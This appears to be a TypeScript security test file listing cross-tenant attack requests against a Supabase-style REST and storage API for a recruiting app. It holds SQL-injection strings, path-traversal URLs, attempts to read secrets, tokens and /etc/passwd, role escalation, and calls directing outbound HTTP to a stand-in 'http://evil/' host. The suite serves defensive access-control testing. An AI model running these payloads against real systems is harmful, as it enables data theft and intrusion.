import type { Answer, Call, Tenants } from "./tenants";

export type Attempt = [
  method: string,
  path: string,
  options?: { body?: unknown; headers?: Record<string, string> },
];

const upsert = { prefer: "resolution=merge-duplicates,return=representation" };
const ignore = { prefer: "resolution=ignore-duplicates,return=representation" };
const back = { prefer: "return=representation" };
const pdf = { "content-type": "application/pdf", "x-upsert": "true" };

/** What a stranger may try on Ann's rows, knowing all their ids. */
export function restAttempts({ ann, bob, target }: Tenants): Attempt[] {
  const tables = ["applicants", "files", "imports", "applicant_events", "users"];
  const own = (table: string) => (table === "users" ? "id" : "user_id");
  const reads = tables.flatMap((table): Attempt[] => [
    ["GET", `/rest/v1/${table}?select=*`],
    ["GET", `/rest/v1/${table}?select=*&${own(table)}=eq.${ann.id}`],
    [
      "HEAD",
      `/rest/v1/${table}?select=${own(table)}&${own(table)}=eq.${ann.id}`,
      { headers: { prefer: "count=exact" } },
    ],
    [
      "GET",
      `/rest/v1/${table}?select=*&or=(${own(table)}.eq.${ann.id},${own(table)}.neq.${ann.id})`,
    ],
    ["GET", `/rest/v1/${table}?select=*&not.and=(${own(table)}.eq.${bob.id})`],
    ["GET", `/rest/v1/${table}?select=*`, { headers: { accept: "text/csv" } }],
    [
      "GET",
      `/rest/v1/${table}?select=*`,
      { headers: { accept: "application/vnd.pgrst.plan+text; options=analyze|verbose" } },
    ],
  ]);
  const embeds: Attempt[] = [
    "/rest/v1/applicants?select=*,files!applicants_own_file(*),applicant_events(*)",
    "/rest/v1/applicants?select=*,files!applicants_own_li_file(*)",
    "/rest/v1/files?select=*,applicants!applicants_own_li_file(*),users(id,full_name)",
    "/rest/v1/users?select=id,full_name,applicants(*),files(*),imports(*),applicant_events(*)",
    "/rest/v1/users?select=id,ashby_api_key",
    "/rest/v1/applicants?select=id,users(ashby_api_key)",
    "/rest/v1/applicants?select=id,users!inner(id)&users.ashby_api_key=like.v1*",
    "/rest/v1/applicants?select=id,...users(full_name,ashby_api_key)",
    "/rest/v1/files?select=id,applicants!applicants_own_file(*),users!files_user_id_fkey(full_name)",
    "/rest/v1/imports?select=*,users(full_name,applicants(*))&users.order=ashby_api_key",
  ].map((path) => ["GET", path]);
  const writes = tables.flatMap((table): Attempt[] => {
    const id = { applicants: target.applicant, files: target.file, imports: target.load }[table];
    const where = `${own(table)}=eq.${ann.id}`;
    return [
      ["DELETE", `/rest/v1/${table}`],
      ["DELETE", `/rest/v1/${table}`, { headers: back }],
      ["DELETE", `/rest/v1/${table}?${where}`, { headers: back }],
      ["PATCH", `/rest/v1/${table}?${where}`, { body: { [own(table)]: bob.id }, headers: back }],
      ["POST", `/rest/v1/${table}?on_conflict=id`, { body: { id: id ?? ann.id }, headers: upsert }],
      ["POST", `/rest/v1/${table}?on_conflict=id`, { body: { id: id ?? ann.id }, headers: ignore }],
      ["PUT", `/rest/v1/${table}?id=eq.${id ?? ann.id}`, { body: { id: id ?? ann.id } }],
      ["POST", `/rest/v1/${table}`, { body: { [own(table)]: ann.id }, headers: back }],
    ];
  });
  const pointed: Attempt[] = [
    ["PATCH", "/rest/v1/applicants", { body: { notes: "taken over" } }],
    ["PATCH", "/rest/v1/imports", { body: { status: "cancelled" } }],
    ["PATCH", "/rest/v1/applicants", { body: { notes: "taken over" }, headers: back }],
    ["PATCH", "/rest/v1/applicants", { body: { cv_status: "pending" }, headers: back }],
    [
      "PATCH",
      `/rest/v1/applicants?id=eq.${target.applicant}`,
      { body: { name: "x" }, headers: back },
    ],
    ["POST", "/rest/v1/applicants", { body: [{ name: "x" }, { name: "y", user_id: ann.id }] }],
    ["POST", "/rest/v1/applicants", { body: { cv_file_id: target.file }, headers: back }],
    ["POST", "/rest/v1/applicants", { body: { li_file_id: target.file }, headers: back }],
    ["PATCH", "/rest/v1/applicants", { body: { li_file_id: target.file }, headers: back }],
    [
      "POST",
      "/rest/v1/applicants?columns=name,user_id",
      { body: [{ name: "x", user_id: ann.id }], headers: { prefer: "missing=default" } },
    ],
    [
      "POST",
      "/rest/v1/applicants?columns=name,cv_file_id",
      { body: `name,cv_file_id\nx,${target.file}`, headers: { "content-type": "text/csv" } },
    ],
    ["PATCH", "/rest/v1/applicants", { body: { cv_file_id: target.file }, headers: back }],
    [
      "POST",
      "/rest/v1/files",
      { body: { path: target.path, name: "cv", mime: "x", size_bytes: 1 } },
    ],
    [
      "PATCH",
      `/rest/v1/imports?id=eq.${target.load}`,
      { body: { status: "cancelled" }, headers: back },
    ],
    [
      "PATCH",
      "/rest/v1/users",
      { body: { full_name: "taken over" }, headers: { ...back, prefer: "tx=rollback" } },
    ],
    ["PATCH", `/rest/v1/users?id=eq.${ann.id}`, { body: { ashby_api_key: null } }],
  ];
  const calls = [
    "list_applicants",
    "count_applicants",
    "remove_applicants",
    "restore_applicants",
    "delete_removed",
    "due_events",
    "expire_due",
    "removable_objects",
    "objects_removed",
    "github_answers",
    "keep_github_answers",
  ];
  const args: Record<string, unknown> = {
    list_applicants: { search: "victims", max_rows: 10 },
    count_applicants: { search: "victims" },
    remove_applicants: { applicant_ids: [target.applicant] },
    restore_applicants: { applicant_ids: [target.applicant] },
    delete_removed: { after_seconds: 0, max_rows: 10 },
    due_events: { quiet_seconds: 0, max_events: 10 },
    expire_due: { deadline_seconds: 0, reason: "x" },
    removable_objects: { of_user: ann.id, max_objects: 10 },
    github_answers: { of_applicant: target.applicant },
    keep_github_answers: { of_applicant: target.applicant, of_revision: 1, answers: "{}" },
    objects_removed: { of_user: ann.id, paths: [target.path] },
  };
  const rpcs: Attempt[] = [
    ...calls.map((name): Attempt => ["POST", `/rest/v1/rpc/${name}`, { body: args[name] }]),
    ["GET", "/rest/v1/rpc/list_applicants?search=victims&select=*,users(*)"],
    ...["%' or true --", "') or true or ('"].map(
      (text): Attempt => [
        "POST",
        "/rest/v1/rpc/list_applicants",
        {
          body: {
            search: text,
            status: [text],
            decision: [text],
            failing: [text],
            flag: text,
            ats: [text],
            sort: text,
          },
        },
      ],
    ),
  ];
  return [...reads, ...embeds, ...pointed, ...rpcs, ...writes];
}

/** What lies beside the public schema and must not be there for anybody who is not the server. */
export function hiddenAttempts(): Attempt[] {
  const tables = [
    ["auth", "users"],
    ["auth", "refresh_tokens"],
    ["storage", "objects"],
    ["private", "settings"],
    ["private", "departures"],
    ["net", "http_request_queue"],
    ["net", "_http_response"],
    ["vault", "decrypted_secrets"],
    ["pg_catalog", "pg_authid"],
    ["information_schema", "columns"],
    ["local_gateway", "keys"],
    ["supabase_migrations", "schema_migrations"],
  ] as const;
  const functions: [schema: string, name: string, args: Record<string, unknown>][] = [
    ["private", "set_setting", { setting_name: "door_url", new_value: "http://evil/" }],
    ["private", "setting", { setting_name: "door_secret" }],
    ["private", "post_events", { events: [] }],
    ["net", "http_post", { url: "http://evil/" }],
    ["pg_catalog", "pg_read_file", { filename: "/etc/passwd" }],
    ["pg_catalog", "set_config", { setting_name: "role", new_value: "service_role" }],
    ["extensions", "gen_salt", { "": "bf" }],
  ];
  return [
    ...tables.flatMap(([schema, table]): Attempt[] => [
      ["GET", `/rest/v1/${table}?select=*`, { headers: { "accept-profile": schema } }],
      ["GET", `/rest/v1/${schema}.${table}?select=*`],
    ]),
    ...functions.flatMap(([schema, name, body]): Attempt[] => [
      ["POST", `/rest/v1/rpc/${name}`, { body, headers: { "content-profile": schema } }],
      ["POST", `/rest/v1/rpc/${name}`, { body }],
      ["POST", `/rest/v1/rpc/${schema}.${name}`, { body }],
    ]),
  ];
}

/** What a stranger may try on Ann's objects, knowing their paths. */
export function storageAttempts({ ann, bob, target }: Tenants): Attempt[] {
  const object = "/storage/v1/object";
  const { path } = target;
  const folder = `${ann.id}/${target.file}`;
  const copied = { bucketId: "cvs", sourceKey: path, destinationKey: `${bob.id}/f1/x.pdf` };
  const evil = { body: "evil", headers: pdf };
  return [
    ...["", "authenticated/", "public/", "info/", "info/public/", "sign/"].map(
      (kind): Attempt => ["GET", `${object}/${kind}cvs/${path}?token=x.y.z`],
    ),
    ["GET", `/storage/v1/render/image/authenticated/cvs/${path}`],
    ["GET", `${object}/cvs/${bob.id}/../${path}`],
    ["GET", `${object}/cvs/${bob.id}%2F..%2F${encodeURIComponent(path)}`],
    ["GET", `${object}/cvs%2F${encodeURIComponent(path)}`],
    ["HEAD", `${object}/cvs/${path}`],
    ["POST", `${object}/sign/cvs/${path}`, { body: { expiresIn: 60 } }],
    ["POST", `${object}/sign/cvs`, { body: { expiresIn: 60, paths: [path] } }],
    ["POST", `${object}/upload/sign/cvs/${folder}/new.pdf`, { body: {} }],
    ...["", ann.id, `${ann.id}/`, folder, `${bob.id}/../${folder}`].map(
      (prefix): Attempt => [
        "POST",
        `${object}/list/cvs`,
        { body: { prefix, limit: 100, search: "" } },
      ],
    ),
    ["POST", `${object}/move`, { body: copied }],
    ["POST", `${object}/copy`, { body: copied }],
    ["DELETE", `${object}/cvs`, { body: { prefixes: [path, `${ann.id}/`, ""] } }],
    ["DELETE", `${object}/cvs/${path}`],
    ["POST", `${object}/cvs/${path}`, evil],
    ["PUT", `${object}/cvs/${path}`, evil],
    ["POST", `${object}/cvs/${folder}/new.pdf`, evil],
    ["POST", `${object}/cvs/${bob.id}/f1/../../${folder}/new.pdf`, evil],
    ["POST", `${object}/cvs/${bob.id}/..%2F..%2F${encodeURIComponent(`${folder}/new.pdf`)}`, evil],
    ["POST", `${object}/cvs/${bob.id.toUpperCase()}/../${ann.id}/f/new.pdf`, evil],
    ["GET", "/storage/v1/bucket/cvs"],
    ["POST", "/storage/v1/bucket", { body: { id: "mine", name: "mine", public: true } }],
    ["PUT", "/storage/v1/bucket/cvs", { body: { id: "cvs", public: true } }],
    ["POST", "/storage/v1/bucket/cvs/empty", { body: {} }],
    ["DELETE", "/storage/v1/bucket/cvs"],
    ["DELETE", "/storage/v1/bucket/spare"],
  ];
}

export async function runAll(
  call: Call,
  attempts: Attempt[],
): Promise<(Answer & { what: string })[]> {
  const answers = [];
  for (const [method, path, options] of attempts) {
    answers.push({ what: `${method} ${path}`, ...(await call(method, path, options)) });
  }
  return answers;
}
